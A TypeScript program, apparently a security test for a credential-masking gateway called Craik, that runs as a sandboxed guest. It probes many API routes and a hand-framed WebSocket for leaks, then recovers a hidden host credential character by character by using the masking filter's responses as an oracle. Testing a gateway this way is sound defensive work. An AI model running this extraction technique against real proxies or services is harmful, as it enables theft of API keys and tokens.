/**
 * A program in a sandbox that tries to find out a credential on the host. It imports nothing of Craik.
 *
 * - `node guest.ts compare` prints everything that it can see of each route.
 * - `node guest.ts recover PREFIX` guesses the credential character by character, and prints what it found.
 */
import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { type IncomingMessage, request } from 'node:http'

const GATEWAY = new URL(process.env.ANTHROPIC_BASE_URL ?? 'http://gateway.example')
const WEB_SOCKET_KEY = 'AAAAAAAAAAAAAAAAAAAAAA=='

/** The output of `recover`: the known part of the credential, and the number of requests. */
export interface Recovered {
  readonly known: string
  readonly asked: number
}

interface Seen {
  readonly status: number
  readonly headers: readonly string[]
  readonly body: Buffer
}

interface Route {
  /** No upstream repeats text in its answer: the gateway answers the route, or its requests contain no text. */
  readonly isOwn?: true
  readonly method?: string
  readonly path: string
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: (text: string, stream: boolean) => unknown
}

const messages = (content: string) => [{ role: 'user', content }]
const contents = (text: string) => ({ contents: [{ role: 'user', parts: [{ text }] }] })

const ROUTES: Readonly<Record<string, Route>> = {
  anthropic: {
    path: '/v1/messages',
    headers: { 'anthropic-version': '2023-06-01' },
    body: (text, stream) => ({ model: 'claude-x', max_tokens: 100, messages: messages(text), stream }),
  },
  responses: {
    path: '/v1/responses',
    body: (text, stream) => ({
      model: 'gpt-x',
      input: messages(text),
      store: false,
      stream,
      max_output_tokens: 100,
    }),
  },
  chat: {
    path: '/v1/chat/completions',
    body: (text, stream) => ({ model: 'gpt-x', max_tokens: 100, messages: messages(text), stream }),
  },
  gemini: { path: '/v1beta/models/gemini-x:generateContent', body: contents },
  'gemini in events': { path: '/v1beta/models/gemini-x:streamGenerateContent?alt=sse', body: contents },
  'count of tokens': {
    path: '/v1/messages/count_tokens',
    headers: { 'anthropic-version': '2023-06-01' },
    body: (text) => ({ model: 'claude-x', messages: messages(text) }),
  },
  github: { path: '/repos/ada/engine/issues', body: (title) => ({ title }) },
  'github, read': { isOwn: true, method: 'GET', path: '/repos/ada/engine' },
  'list of models': { isOwn: true, method: 'GET', path: '/v1/models' },
  'token route': { isOwn: true, path: '/oauth/token', body: (text) => ({ refresh_token: text }) },
  'no such route': { isOwn: true, path: '/v1/nothing', body: (text) => ({ text }) },
}

async function ask(
  { method = 'POST', path, headers, body }: Route,
  text: string,
  stream = false,
): Promise<Seen> {
  const isGithub = path.startsWith('/repos/')
  const sent = request({
    host: GATEWAY.hostname,
    port: GATEWAY.port,
    method,
    path,
    agent: false,
    headers: {
      ...headers,
      'content-type': 'application/json',
      // None of the headers that a guest can send turns off the mask.
      'accept-encoding': 'gzip, br',
      range: 'bytes=8-',
      te: 'trailers',
      'accept-charset': 'utf-16',
      ...(isGithub && { host: process.env.GITHUB_AT }),
    },
  })
  const answered = new Promise<IncomingMessage>((resolve, reject) => {
    sent.once('response', resolve).once('error', reject)
  })
  sent.end(body === undefined ? undefined : JSON.stringify(body(text, stream)))
  const answer = await answered
  const pieces: Buffer[] = []
  for await (const piece of answer) pieces.push(piece as Buffer)
  const trailers = answer.rawTrailers
  return {
    status: answer.statusCode ?? 0,
    headers: [...answer.rawHeaders, ...trailers],
    body: Buffer.concat(pieces),
  }
}

/** Sends one message over a WebSocket, and returns all bytes until the answer is complete. */
function askSocket(text: string): Promise<Seen> {
  const { promise, resolve, reject } = Promise.withResolvers<Seen>()
  const sent = request({
    host: GATEWAY.hostname,
    port: GATEWAY.port,
    path: '/v1/responses',
    agent: false,
    headers: {
      connection: 'Upgrade',
      upgrade: 'websocket',
      'sec-websocket-version': '13',
      'sec-websocket-key': WEB_SOCKET_KEY,
    },
  })
  sent.once('error', reject).once('response', (answer) => {
    answer.resume()
    resolve({ status: answer.statusCode ?? 0, headers: answer.rawHeaders, body: Buffer.alloc(0) })
  })
  sent.once('upgrade', (answer, socket, head) => {
    let body = head
    socket.on('data', (piece) => {
      body = Buffer.concat([body, piece])
      if (!/"type":"(?:error|response\.(?:completed|failed))"/.test(body.toString('latin1'))) return
      if (body.at(-1) !== 0x7d) return
      resolve({ status: 101, headers: answer.rawHeaders, body })
      socket.destroy()
    })
    const requested = {
      type: 'response.create',
      model: 'gpt-x',
      input: messages(text),
      max_output_tokens: 100,
    }
    const payload = Buffer.from(JSON.stringify(requested))
    const length = Buffer.alloc(8)
    length.writeUInt32BE(payload.length, 4)
    // With a mask of zeros, the masked message is the same as the original.
    socket.write(Buffer.concat([Buffer.from([0x81, 0xff]), length, Buffer.alloc(4), payload]))
  })
  sent.end()
  return promise
}

/** Removes the date, the only header that is different in every answer. */
function withoutDate(headers: readonly string[]): string[] {
  return headers.filter((_, at) => headers[at - (at % 2)]?.toLowerCase() !== 'date')
}

async function compare(): Promise<void> {
  const words = JSON.parse(readFileSync('words.json', 'utf8')) as Record<string, string>
  const say = async (what: string, pending: Promise<Seen>) => {
    // A broken connection is a result too.
    const { status, headers, body } = await pending.catch((error: NodeJS.ErrnoException) => ({
      status: 0,
      headers: [],
      body: Buffer.from(String(error.code)),
    }))
    const isMasked = body.includes('and your key is xxxxxxxx')
    const digest = createHash('sha256').update(body).digest('hex')
    const line = [
      what,
      status,
      withoutDate(headers),
      body.length,
      digest,
      isMasked,
      body.toString('latin1').slice(0, 400),
    ]
    process.stdout.write(`${JSON.stringify(line)}\n`)
  }
  for (const mode of ['quote', 'ok', 'headers', 'bad', 'missing', 'packed', '401', '403', 'error'])
    for (const [kind, text] of Object.entries(words)) {
      const output = `MODE=${mode} WORDS(${text})`
      for (const [name, route] of Object.entries(ROUTES)) {
        if (route.isOwn === true && mode !== 'ok') continue
        await say(`${name}, ${mode}, ${kind}`, ask(route, output))
        if (route.body?.(output, true) !== undefined && /messages|responses|completions/.test(route.path))
          await say(`${name}, ${mode}, ${kind}, in events`, ask(route, output, true))
      }
      if (mode !== 'packed') await say(`socket, ${mode}, ${kind}`, askSocket(output))
    }
}

const ALPHABET = [...'0123456789abcdef']
/** The length of the pieces that the filter compared. */
const PIECE_CHARS = 8

async function recover(prefix: string, length: number): Promise<void> {
  let requestCount = 0
  const look = async (guesses: readonly string[]): Promise<string> => {
    requestCount++
    const words = guesses.join(' ')
    const { status, headers, body } = await ask(ROUTES.anthropic!, `MODE=quote WORDS(${words})`)
    // The answer repeats the text of the request.
    const rest = body.toString('latin1').replaceAll(words, '')
    return JSON.stringify([status, withoutDate(headers).filter((each) => !/^\d+$/.test(each)), rest])
  }
  let known = prefix
  while (known.length < length) {
    const usual = await look(['~'.repeat(PIECE_CHARS)])
    const ending = known.slice(1 - PIECE_CHARS)
    let left = ALPHABET
    while (left.length > 1) {
      const half = left.slice(0, left.length / 2)
      const isIn = (await look(half.map((each) => ending + each))) !== usual
      left = isIn ? half : left.slice(left.length / 2)
    }
    // The answer must also change for the last remaining character. Otherwise the filter reacted to none of them.
    if ((await look([ending + left[0]])) === usual) break
    known += left[0]
  }
  const recovered: Recovered = { known, asked: requestCount }
  process.stdout.write(JSON.stringify(recovered))
}

if (import.meta.main && process.argv[2] === 'compare') await compare()
else if (import.meta.main) await recover(process.argv[3]!, Number(process.argv[4]))
